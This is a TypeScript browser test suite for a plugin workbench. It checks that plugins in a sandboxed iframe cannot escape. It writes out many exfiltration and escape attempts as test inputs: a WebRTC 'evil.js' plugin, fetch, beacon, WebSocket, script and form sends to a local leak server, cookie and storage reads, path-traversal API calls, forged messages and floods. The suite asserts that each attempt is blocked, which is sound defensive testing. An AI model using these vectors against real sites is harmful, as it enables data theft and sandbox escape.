import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openPage } from '#tests/support/browser'
import { aFramedArchive, type FramedOptions, frameOf } from '#tests/support/framed-plugin'
import { installPackage } from '#tests/support/install-plugin'
import { LeakServer } from '#tests/support/leak-server'
import { sha384 } from '#tests/support/plugin-archive'
import { probePlugin } from '#tests/support/probe-plugin'
import { type Client, everything, World } from '#tests/support/world'

// Hostile plugins in a sandboxed frame: what their code tries from there, and what comes of it.

let world: World
let leaks: LeakServer
let ana: Client
let admin: Client
beforeAll(async () => {
  leaks = await LeakServer.open()
  world = await World.open({ browser: true, plugins: [probePlugin] })
  await world.project('demo_shop')
  ana = await world.user({ acl: { '*': everything('RWX') } })
  admin = await world.user({ role: 'superadmin', acl: { '*': everything('RWX') } })
  await install({
    files: { 'evil.js': evilOf(leaks.port) },
    manifest: { needs: { calls: ['/api/v1/probe/**', '/api/v1/admin/**', '/v1/**'], host: ['toasts', 'permissions'] } },
  })
})
afterAll(async () => {
  leaks?.close()
  await world?.close()
})

/** Sends datagrams to a host, if it may. */
const evilOf = (port: number) => `
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
  connection.createDataChannel('x')
  connection.createOffer().then((offer) => connection.setLocalDescription(offer))`

/** Where the plugin's files are, from the address of its frame. */
const entryOf = (frame: Frame) => `${frame.url().replace('/x/frame/', '/plugins/')}/`

async function install(options: FramedOptions): Promise<void> {
  const archive = await aFramedArchive(options)
  await installPackage(admin, archive)
}

async function openFramed(who = ana): Promise<{ readonly page: Page; readonly frame: Frame }> {
  const { page } = await openPage(world, who, '/app/demo_shop/x/acme.framed')
  return { page, frame: await frameOf(page) }
}

/** Runs attempts in the frame, each a piece of code; gives what became of each: its value, or the name of its error. */
function attempt(frame: Frame, attempts: Readonly<Record<string, string>>): Promise<Readonly<Record<string, string>>> {
  const body = Object.entries(attempts).map(
    ([name, code]) =>
      `try { results[${JSON.stringify(name)}] = String(await (async () => { ${code} })()) } catch (error) { results[${JSON.stringify(name)}] = error?.name ?? String(error) }`,
  )
  return frame.evaluate(`(async () => { const results = {}; ${body.join('\n')}; return results })()`)
}

/** Says something to the workbench that the frame's own code would not. */
function say(frame: Frame, message: unknown): Promise<void> {
  return frame.evaluate((text) => {
    const send: unknown = Reflect.get(globalThis, 'say')
    if (typeof send !== 'function') throw new Error('the line is out of reach')
    send(text)
  }, message)
}

test('nothing of the page, of its origin or of its session is within reach of a frame', async () => {
  const { page, frame } = await openFramed()
  expect(
    await attempt(frame, {
      'the page’s document': 'return parent.document.title',
      'the top document': 'return top.document.title',
      'the page’s address': 'return parent.location.href',
      'its own element': 'return window.frameElement',
      cookies: 'return document.cookie',
      'local storage': 'return localStorage.length',
      'session storage': 'return sessionStorage.length',
      'a database':
        'return await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("open"); r.onerror = () => no(r.error) })',
      'a cache': 'return await caches.open("x")',
      'a service worker': 'return await navigator.serviceWorker.getRegistrations()',
      'leading the page away': 'top.location.href = "about:blank"',
      'a window': 'return window.open("about:blank")',
      // In a task of the page itself: what a test evaluates is above the policy.
      evaluating:
        'return await new Promise((ok, no) => setTimeout(() => { try { ok(eval("1")) } catch (error) { no(error) } }))',
      'a question': 'return confirm("Your password?")',
    }),
  ).toEqual({
    'the page’s document': 'SecurityError',
    'the top document': 'SecurityError',
    'the page’s address': 'SecurityError',
    'its own element': 'null',
    cookies: 'SecurityError',
    'local storage': 'SecurityError',
    'session storage': 'SecurityError',
    'a database': 'SecurityError',
    'a cache': 'SecurityError',
    'a service worker': 'SecurityError',
    'leading the page away': 'SecurityError',
    'a window': 'null',
    evaluating: 'EvalError',
    'a question': 'false',
  })
  await page.getByRole('navigation').first().waitFor()
})

test('nothing that a frame knows leaves it, by whatever a browser asks others for', async () => {
  const { page, frame } = await openFramed()
  const { url, port } = leaks
  const policy = (await fetch(frame.url())).headers.get('content-security-policy') ?? ''
  const mapHash = /'(sha256-[^']+)'/.exec(policy)?.[1] ?? ''
  expect(mapHash).not.toBe('')
  const element = (tag: string, fields: Readonly<Record<string, string>>) =>
    `document.body.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(fields)}))`
  const link = `const a = Object.assign(document.createElement('a'), { href: '${url}/link' }); document.body.append(a)`
  await attempt(frame, {
    fetch: `return await fetch('${url}/fetch', { mode: 'no-cors' })`,
    'our own calls': `return await fetch('/api/v1/aec-project/list')`,
    beacon: `return navigator.sendBeacon('${url}/beacon', 'x')`,
    request: `const r = new XMLHttpRequest(); r.open('GET', '${url}/request'); r.send()`,
    socket: `new WebSocket('ws://127.0.0.1:${port}/socket')`,
    events: `new EventSource('${url}/events')`,
    image: `new Image().src = '${url}/image'`,
    script: element('script', { src: `${url}/script` }),
    'script by the import map’s hash': element('script', { src: `${url}/hash`, integrity: mapHash }),
    'script by a nonce': element('script', { src: `${url}/nonce`, nonce: 'x' }),
    module: `return await import('${url}/module')`,
    'data module': `return await import('data:text/javascript,globalThis.pwned=1')`,
    worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker")'])))`,
    style: element('link', { rel: 'stylesheet', href: `${url}/style` }),
    'style in a style': element('style', {
      textContent: `@import '${url}/import'; body { background: url('${url}/background') }`,
    }),
    font: `return await new FontFace('x', 'url(${url}/font)').load()`,
    prefetch: element('link', { rel: 'prefetch', href: `${url}/prefetch` }),
    preload: element('link', { rel: 'preload', as: 'image', href: `${url}/preload` }),
    manifest: element('link', { rel: 'manifest', href: `${url}/manifest` }),
    icon: element('link', { rel: 'icon', href: `${url}/icon` }),
    frame: element('iframe', { src: `${url}/frame` }),
    embed: element('embed', { src: `${url}/embed` }),
    video: element('video', { src: `${url}/video`, autoplay: 'true' }),
    audio: element('audio', { src: `${url}/audio`, autoplay: 'true' }),
    link: `${link}; a.target = '_blank'; a.click()`,
    'link of the page': `${link}; a.target = '_top'; a.ping = '${url}/ping'; a.click()`,
    base: element('base', { href: `${url}/base/` }),
  })
  const script = new URL('evil.js', entryOf(frame)).href
  const inner = `<script src="${script}" integrity="${sha384(evilOf(leaks.port))}" crossorigin></script>`
  expect(
    await attempt(frame, {
      'a connection of its own protocol': 'return typeof RTCPeerConnection + typeof webkitRTCPeerConnection',
      'a document of its own': `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(inner)}; document.body.append(f)`,
      'the same by an attribute': `const f = document.createElement('iframe'); f.setAttribute('srcdoc', ${JSON.stringify(inner)}); document.body.append(f)`,
      'the same by a node': `const f = document.createElement('iframe'); const a = document.createAttribute('srcdoc'); a.value = ${JSON.stringify(inner)}; f.setAttributeNode(a); document.body.append(f)`,
      'an empty document’s': `const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.RTCPeerConnection`,
      'its own file again': `return await import('${script}')`,
    }),
  ).toEqual({
    'a connection of its own protocol': 'undefinedundefined',
    'a document of its own': 'TypeError',
    'the same by an attribute': 'TypeError',
    'the same by a node': 'TypeError',
    'an empty document’s': 'SecurityError',
    'its own file again': 'ReferenceError',
  })
  // The last: the page in the frame is gone with it.
  await frame.evaluate((address) => {
    setTimeout(() => location.assign(address))
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address}` }),
    )
  }, `${url}/leave`)
  await page.getByRole('heading', { name: 'This page failed' }).waitFor()
  await page.getByRole('button', { name: 'Details' }).click()
  await page.getByText('left its page for another address').waitFor()
  expect({ requests: leaks.requests, datagrams: leaks.datagrams }).toEqual({ requests: [], datagrams: 0 })
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined()
  await page.getByRole('navigation').first().waitFor()
})

test('a form goes nowhere: not to a stranger, not to the workbench itself', async () => {
  /** Resolves with the rule that stopped it. */
  const submit = (fields: Readonly<Record<string, string>>) =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
      const form = Object.assign(document.createElement('form'), fields)
      form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'x' }))
      document.body.append(form)
      form.submit()
    })
  for (const method of ['get', 'post']) {
    const { page, frame } = await openFramed()
    const asked: string[] = []
    page.on('request', (request) => request.isNavigationRequest() && asked.push(request.url()))
    expect(await frame.evaluate(submit, { action: '/app/config.json', method })).toBe('form-action')
    // What stands in the frame after this one is a page of the browser's.
    await frame.evaluate(submit, { action: `${leaks.url}/form`, method }).catch(() => undefined)
    await page.getByRole('heading', { name: 'This page failed' }).waitFor()
    expect([asked, leaks.requests]).toEqual([[], []])
  }
})

test('messages that fit no protocol are ignored and count as faults: the third ends the plugin', async () => {
  const { page, frame } = await openFramed()
  await frame.evaluate(() => {
    // Through the window nobody listens.
    for (const target of [parent, top]) {
      target?.postMessage({ type: 'navigate', to: '/admin/plugins', replace: false }, '*')
      target?.postMessage(JSON.stringify({ type: 'toast', severity: 'error', text: 'forged' }), '*')
    }
  })
  await say(frame, { type: 'toast', severity: 'info', text: 'an object, not a text' })
  await say(frame, 'x'.repeat(1_200_000))
  await frame.getByRole('heading', { name: 'framed page' }).waitFor()
  expect(await page.getByText(/forged|an object, not a text/).count()).toBe(0)
  await say(frame, JSON.stringify({ type: 'toast', severity: 'info', text: 'more', constructor: {} }))
  await page.getByRole('heading', { name: 'is off' }).waitFor()
  await page.getByText(/failed 3 times within a minute, last with: It sent something that is not a message/).waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
})

test('a flood of messages ends the page that sends it, and the workbench works on', async () => {
  const { page, frame } = await openFramed()
  await frame
    .evaluate(() => {
      const send: unknown = Reflect.get(globalThis, 'say')
      if (typeof send === 'function') for (let n = 0; n < 50_000; n += 1) send('{"type":"pong"}')
    })
    .catch(() => undefined)
  await page.getByRole('heading', { name: 'This page failed' }).waitFor()
  await page.getByRole('button', { name: 'Details' }).click()
  await page.getByText('more messages than a page is allowed to send').waitFor()
  await page.getByRole('button', { name: 'Retry' }).click()
  await frameOf(page)
})

const CALL = { method: 'GET', silentFailures: [] }
const REFUSED: readonly (readonly [what: string, code: string, call: object, input: object])[] = [
  ['a path that the manifest does not name', 'CALL_NOT_DECLARED', { ...CALL, path: '/api/v1/aec-project/list' }, {}],
  ['another host', 'CALL_MALFORMED', { ...CALL, path: '//127.0.0.1/api/v1/probe/x' }, {}],
  ['a whole address', 'CALL_MALFORMED', { ...CALL, path: 'https://example.org/api/v1/probe/x' }, {}],
  ['a way up', 'CALL_MALFORMED', { ...CALL, path: '/api/v1/probe/../aec-project/list' }, {}],
  ['an encoded way up', 'CALL_MALFORMED', { ...CALL, path: '/api/v1/probe/%2e%2e/aec-project/list' }, {}],
  ['a way up in a value', 'CALL_MALFORMED', { ...CALL, path: '/api/v1/probe/:a/:b' }, { a: '..', b: 'aec-project' }],
  ['a query', 'CALL_MALFORMED', { ...CALL, path: '/api/v1/probe/x?y=1' }, {}],
  ['administration', 'CALL_NOT_FOR_FRAMES', { ...CALL, path: '/api/v1/admin/plugins' }, {}],
  ['administration in capitals', 'CALL_NOT_FOR_FRAMES', { ...CALL, path: '/api/v1/ADMIN/plugins' }, {}],
  ['the session', 'CALL_NOT_FOR_FRAMES', { ...CALL, path: '/v1/session/logout' }, {}],
]

test('a frame makes no call that its manifest does not name, none that administers, and none elsewhere', async () => {
  const { page, frame } = await openFramed(admin)
  const requests: string[] = []
  page.on('request', (request) => requests.push(new URL(request.url()).pathname))
  const outcomes = await frame.evaluate(
    async (calls) => {
      const http: unknown = Reflect.get(globalThis, 'http')
      if (typeof http !== 'object' || http === null || !('call' in http) || typeof http.call !== 'function') return []
      const codes: string[] = []
      for (const [, , call, input] of calls)
        codes.push(
          await http.call({ ...call, returns: {} }, input).then(
            () => 'made',
            (error: { code: string }) => error.code,
          ),
        )
      return codes
    },
    REFUSED as [string, string, object, object][],
  )
  expect(outcomes).toEqual(REFUSED.map(([, code]) => code))
  expect(requests.filter((path) => !path.startsWith('/app/'))).toEqual([])
})

test('a frame without needs may make no call and use no service', async () => {
  await install({
    id: 'acme.needless',
    files: {
      'pages/hello.js': `
    import { HttpService, ToastService } from '@etabli/sdk'
    import { useService } from '@etabli/sdk/react'
    export default () => {
      Object.assign(globalThis, { http: useService(HttpService) })
      try { useService(ToastService) } catch (error) { return 'framed page: ' + error.code }
    }`,
    },
  })
  const { page } = await openPage(world, ana, '/app/x/acme.needless')
  const frame = await frameOf(page, 'framed page: SERVICE_NOT_DECLARED')
  expect(
    await attempt(frame, {
      call: `return await globalThis.http.call({ method: 'GET', path: '/api/v1/aec-project/list', silentFailures: [] }, {}).catch((error) => error.code)`,
    }),
  ).toEqual({ call: 'CALL_NOT_DECLARED' })
  await say(frame, JSON.stringify({ type: 'toast', severity: 'error', text: 'undeclared' }))
  await say(frame, JSON.stringify({ type: 'store', key: 'a', value: 'undeclared' }))
  await say(frame, JSON.stringify({ type: 'navigate', to: '/', replace: false }))
  await page.getByText(/failed 3 times within a minute/).waitFor()
  expect(await page.getByRole('region', { name: 'Notifications' }).getByText('undeclared').count()).toBe(0)
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('"undeclared"')
  expect(new URL(page.url()).pathname).toBe('/app/x/acme.needless')
})

test('a loop without end in a frame leaves the workbench as it was, and is told of', async () => {
  const { page, frame } = await openFramed()
  await frame.evaluate(() =>
    setTimeout(() => {
      for (;;) Math.random()
    }),
  )
  expect(await page.evaluate(() => 1 + 1)).toBe(2)
  await page.keyboard.press('Control+k')
  await page.getByRole('dialog').getByText('Dashboard').waitFor()
  await page.keyboard.press('Escape')
  // The workbench was used while the loop went on: it is told of only now.
  expect(await page.getByRole('heading', { name: 'This page failed' }).count()).toBe(0)
  await page.getByRole('heading', { name: 'This page failed' }).waitFor()
  await page.getByRole('button', { name: 'Details' }).click()
  await page.getByText('stuck in a loop').waitFor()
})
